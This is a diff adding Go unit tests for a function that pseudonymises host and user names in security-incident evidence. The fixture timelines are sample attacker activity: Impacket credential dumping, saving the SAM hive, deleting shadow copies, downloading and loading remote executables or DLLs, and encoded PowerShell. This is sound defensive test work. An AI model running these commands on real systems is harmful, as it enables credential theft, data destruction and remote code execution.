@@ -294,3 +294,197 @@ func BenchmarkPseudonymize(b *testing.B) {
 		_ = names.Restore(sent.Facts.CommandLine)
 	}
 }
+
+// hiddenAndKept pseudonymises ev and checks, in every string sent, that no name
+// of hidden is left and that every text of kept is there unchanged. It also checks
+// that restoring the sent evidence gives back the real one: the new tokens
+// round-trip.
+func hiddenAndKept(t *testing.T, ev investigation.Evidence, hidden, kept []string) investigation.Evidence {
+	t.Helper()
+	sent, names := Pseudonymize(ev)
+	all := strings.Join(everyString(&sent), "\n")
+	for _, n := range hidden {
+		assert.False(t, guardtest.Mentions(all, n), "%s should be pseudonymised in:\n%s", n, all)
+	}
+	for _, k := range kept {
+		assert.Contains(t, all, k, "should stay as it is")
+	}
+	assert.Equal(t, ev, rewrite(sent, names.Restore), "the tokens restore to the real names")
+	return sent
+}
+
+func timeline(texts ...string) []investigation.TimelineItem {
+	var out []investigation.TimelineItem
+	for _, s := range texts {
+		out = append(out, investigation.TimelineItem{Description: s})
+	}
+	return out
+}
+
+// Class 1: hosts named in free text beside an IP address, as machine accounts,
+// as FQDNs of the customer's domains and by the tenant's naming scheme.
+func TestPseudonymizeHostsBesideAnIP(t *testing.T) {
+	ev := investigation.Evidence{
+		Facts: investigation.ThreatFacts{AgentName: "FAB-APP-21", OriginatorProcess: "php-fpm",
+			CommandLine: "python3 /tmp/x.py"},
+		Timeline: timeline(
+			`FABRIKAM\Administrator from 10.20.6.5 (FAB-FS-05) at 02:14`,
+			`Custom rule 'X' raised an alert: render from 10.40.44.61 (DES-DT-061)`,
+			`PsExec service installed remotely from FIN-LT-118 (10.40.18.118), a finance laptop`,
+			`smb.exe → 10.0.0.7:445 (FS01)`,
+			`logon from 10.40.18.118 (cmd.exe) and 10.0.0.9 (secretsdump.py)`,
+			`C2 at 91.92.251.103 (NL), 185.107.56.201 (RO), 194.165.16.37 (password), 10.1.1.1 (non-routable)`,
+			`webshell reached from 45.9.148.99 (php-fpm) and 45.9.148.98 (python3)`,
+		),
+	}
+	hiddenAndKept(t, ev, []string{"FAB-FS-05", "DES-DT-061", "FIN-LT-118", "FS01"},
+		[]string{"(cmd.exe)", "(secretsdump.py)", "(NL)", "(RO)", "(password)", "(non-routable)", "(php-fpm)", "(python3)", "10.20.6.5"})
+}
+
+func TestPseudonymizeMachineAccounts(t *testing.T) {
+	ev := investigation.Evidence{Timeline: timeline(
+		`An account was logged on. Account Name: WKS-0042$`,
+		`DCSync by FABRIKAM\FILESRV$`,
+		`copy \\IT-FS-01\pdq$\x.exe \\127.0.0.1\ADMIN$ \\10.0.0.5\C$ $env:TEMP\a.exe ${HOME} $(id)`,
+	)}
+	sent := hiddenAndKept(t, ev, []string{"WKS-0042", "FILESRV", "IT-FS-01"}, []string{`\pdq$\x.exe`, `\\127.0.0.1\ADMIN$`, `$env:TEMP\a.exe ${HOME} $(id)`})
+	assert.Equal(t, `An account was logged on. Account Name: HOST-1$`, sent.Timeline[0].Description, "the '$' stays: the model sees a machine account")
+}
+
+func TestPseudonymizeCustomerFQDNs(t *testing.T) {
+	ev := investigation.Evidence{
+		Facts: investigation.ThreatFacts{AgentName: "WKS-0042", ProcessUser: `FABRIKAM\jdoe`},
+		Timeline: timeline(
+			`nltest /dclist:fabrikam.com & ping sql01.fabrikam.com & curl https://www.fabrikam.com/x`,
+			`dir \\corp.fabrikam.com\NETLOGON\it`,
+			`ssh to Janes-MacBook-Pro.local, dc02.corp.lan and web.prod.internal; cat .env.local`,
+			`update.microsoft.com raw.githubusercontent.com pool.supportxmr.com NTDS.dit System.Management.Automation`,
+		),
+	}
+	sent := hiddenAndKept(t, ev, []string{"sql01", "www.fabrikam.com", "Janes-MacBook-Pro", "dc02", "web.prod.internal"},
+		[]string{"fabrikam.com &", `\\corp.fabrikam.com\NETLOGON\it`, ".env.local",
+			"update.microsoft.com raw.githubusercontent.com pool.supportxmr.com NTDS.dit System.Management.Automation"})
+	assert.Contains(t, sent.Timeline[0].Description, "ping HOST-2.fabrikam.com", "a distinctive host label goes, the domain stays")
+
+	// The customer's domain also comes from a UPN and from the agent's own FQDN.
+	ev = investigation.Evidence{
+		Facts:    investigation.ThreatFacts{AgentName: "wks7.contoso.net", LastLoggedInUser: "amy@woodgrove.com"},
+		Timeline: timeline(`copied to files.contoso.net and mail.woodgrove.com, not to files.example.net`),
+	}
+	hiddenAndKept(t, ev, []string{"files.contoso.net", "mail.woodgrove.com", "amy"}, []string{"files.example.net"})
+}
+
+func TestPseudonymizeHostsOfTheTenantsNamingScheme(t *testing.T) {
+	ev := investigation.Evidence{
+		Facts: investigation.ThreatFacts{AgentName: "FIN-LT-118"},
+		Timeline: timeline(
+			`Custom rule 'Mass file rename on share' raised an alert on FAB-FS-07 and on fab-hv-02`,
+			`then moved to SALES-DT-22; host: OPS-DT-9 resolved HR-LT-061`,
+			// Another shape (INC-2025-0388), after no host word, or not a host.
+			`after incident INC-2025-0388 on first-chance, the user-defined list; saw FAB-FS-08`,
+		),
+	}
+	hiddenAndKept(t, ev, []string{"FAB-FS-07", "fab-hv-02", "SALES-DT-22", "OPS-DT-9", "HR-LT-061"},
+		[]string{"INC-2025-0388", "first-chance", "user-defined", "saw FAB-FS-08"})
+
+	ev = investigation.Evidence{
+		Facts:    investigation.ThreatFacts{AgentName: "WKS-0042"},
+		Timeline: timeline(`hashed to SHA-256, encoded to UTF-8, keyed to AES-128, then copied to SRV-0099`),
+	}
+	hiddenAndKept(t, ev, []string{"SRV-0099"}, []string{"SHA-256", "UTF-8", "AES-128"})
+}
+
+// Class 2: DOMAIN\user of any NetBIOS domain, with built-in and virtual
+// accounts, groups, registry keys and paths left alone.
+func TestPseudonymizeAnyNetBIOSDomainUser(t *testing.T) {
+	ev := investigation.Evidence{
+		Facts: investigation.ThreatFacts{AgentName: "FAB-APP-52", ProcessUser: `NT AUTHORITY\SYSTEM`},
+		Timeline: timeline(
+			`Service 'a3c2e1f' installed by FABRIKAM\svc_erp from 10.40.51.210`,
+			`LYON-OT\operator and DESKTOP-7F3K2L\alice; later fabrikam\kchen.`,
+			`net use Z: \\FAB-FS-05\Finance /user:CONTOSO\bwilson & echo "MZ\x90"`,
+			`NT AUTHORITY\LOCAL SERVICE, NT SERVICE\MSSQLSERVER, IIS APPPOOL\DefaultAppPool, BUILTIN\Administrators`,
+			`Window Manager\DWM-1, Font Driver Host\UMFD-0, FABRIKAM\Domain Admins, FABRIKAM\krbtgt`,
+			`reg save HKLM\SAM sam.save & reg query HKLM\SOFTWARE & SYSTEM\Select & SOFTWARE\Microsoft\Windows`,
+			`iwr x -o $env:TEMP\8821.exe; %APPDATA%\svc.ps1; TEMP\8821.exe; C:\PROGRA~1\x`,
+		),
+	}
+	hiddenAndKept(t, ev, []string{"svc_erp", "operator", "alice", "DESKTOP-7F3K2L", "kchen", "bwilson"}, []string{
+		`/user:CONTOSO\`, `"MZ\x90"`,
+		`NT AUTHORITY\LOCAL SERVICE, NT SERVICE\MSSQLSERVER, IIS APPPOOL\DefaultAppPool, BUILTIN\Administrators`,
+		`Window Manager\DWM-1, Font Driver Host\UMFD-0, FABRIKAM\Domain Admins, FABRIKAM\krbtgt`,
+		`reg save HKLM\SAM sam.save & reg query HKLM\SOFTWARE & SYSTEM\Select & SOFTWARE\Microsoft\Windows`,
+		`iwr x -o $env:TEMP\8821.exe; %APPDATA%\svc.ps1; TEMP\8821.exe; C:\PROGRA~1\x`,
+		"FABRIKAM", "LYON-OT",
+	})
+}
+
+func TestPseudonymizeImpacketTargets(t *testing.T) {
+	ev := investigation.Evidence{
+		Facts: investigation.ThreatFacts{AgentName: "kali-01", ProcessUser: `FABRIKAM\jdoe`},
+		Timeline: timeline(
+			`secretsdump.py fabrikam.com/rt.operator1@10.20.0.5 -just-dc-ntlm`,
+			`wmiexec.py FABRIKAM/adm.lee:Passw0rd@FAB-DC-01`,
+			`docker pull fabrikam/web@sha256:0a1b2c3d and go install fabrikam/tool@v1.2.3 and npm i fabrikam/cli@2.1.0`,
+		),
+	}
+	hiddenAndKept(t, ev, []string{"rt.operator1", "adm.lee"}, []string{"fabrikam/web@sha256", "fabrikam/tool@v1.2.3", "fabrikam/cli@2.1.0"})
+}
+
+// Class 3: the agent's last logged-in user, bare or DOMAIN\-prefixed, hidden
+// wherever it appears.
+func TestPseudonymizeLastLoggedInUser(t *testing.T) {
+	ev := investigation.Evidence{Facts: investigation.ThreatFacts{
+		AgentName: "DES-MB-019", ProcessUser: "root", LastLoggedInUser: "mhoffman",
+		CommandLine: `/bin/bash /Library/Application Support/JAMF/tmp/FontSync.sh / DES-MB-019 mhoffman`,
+	}}
+	sent := hiddenAndKept(t, ev, []string{"mhoffman"}, []string{"root", "FontSync.sh"})
+	assert.Equal(t, "USER-1", sent.Facts.LastLoggedInUser)
+	assert.Equal(t, `/bin/bash /Library/Application Support/JAMF/tmp/FontSync.sh / HOST-1 USER-1`, sent.Facts.CommandLine)
+
+	ev = investigation.Evidence{
+		Facts:    investigation.ThreatFacts{AgentName: "FAB-APP-52", ProcessUser: `NT AUTHORITY\SYSTEM`, LastLoggedInUser: `CONTOSO\svc_erp`},
+		Timeline: timeline(`Service installed by svc_erp`),
+	}
+	sent, names := Pseudonymize(ev)
+	assert.Equal(t, `CONTOSO\USER-1`, sent.Facts.LastLoggedInUser)
+	assert.Equal(t, `Service installed by USER-1`, sent.Timeline[0].Description)
+	got := names.RestoreAnalysis(investigation.Analysis{Summary: `HOST-1 ran it while USER-1 was logged on`})
+	assert.Equal(t, `FAB-APP-52 ran it while svc_erp was logged on`, got.Summary)
+}
+
+// Class 4: a bare user name next to "user", "by" or "from" is hidden when the
+// evidence names it elsewhere (process user, last logged-in user, DOMAIN\user);
+// an unknown word there is not guessed at.
+func TestPseudonymizeBareUserNamesKnownFromTheEvidence(t *testing.T) {
+	ev := investigation.Evidence{
+		Facts: investigation.ThreatFacts{AgentName: "fab-bastion-01", ProcessUser: "root", LastLoggedInUser: "ops-deploy"},
+		Timeline: timeline(
+			`ops-deploy from 45.141.84.120, then sudo -i`,
+			`token stolen from FABRIKAM\svc_erp; later: service installed by svc_erp, user svc_erp`,
+			`installed by deploy from 45.141.84.121, user backup`,
+		),
+	}
+	hiddenAndKept(t, ev, []string{"ops-deploy", "svc_erp"}, []string{"installed by deploy from 45.141.84.121, user backup", "root"})
+}
+
+// What is not a name stays whatever the names around it: file paths, hashes,
+// process names, techniques, vendor domains.
+func TestPseudonymizeLeavesWhatIsNotAName(t *testing.T) {
+	texts := []string{
+		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -enc SQBFAFgA`,
+		`\Device\HarddiskVolume3\Program Files\Veeam\Backup\Veeam.Backup.Service.exe`,
+		`3395856ce81f2b7382dee72602f798b642f14140 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855`,
+		`svchost.exe → 13.107.4.50:443 (update.microsoft.com); msedge.exe resolved login.microsoftonline.com`,
+		`T1059.001 T1003.006 CVE-2021-44228 KB5034441 MS17-010 SHA-256 UTF-8 x86_64 amd64`,
+		`/usr/sbin/php-fpm8.2 /usr/bin/python3.11 /opt/splunkforwarder/bin/splunkd kworker/0:1`,
+		`vssadmin.exe delete shadows /shadow={b5946137-7b9f-4925-af80-51abd60b20d5} /quiet`,
+		`rundll32.exe \\45.141.215.17@80\share\qu.dll,DllRegisterServer`,
+	}
+	ev := investigation.Evidence{
+		Facts:    investigation.ThreatFacts{AgentName: "FIN-LT-118", ProcessUser: `FABRIKAM\jdoe`, LastLoggedInUser: `FABRIKAM\jdoe`},
+		Timeline: timeline(texts...),
+	}
+	sent := hiddenAndKept(t, ev, []string{"jdoe", "FIN-LT-118"}, texts)
+	assert.Equal(t, ev.Timeline, sent.Timeline)
+}
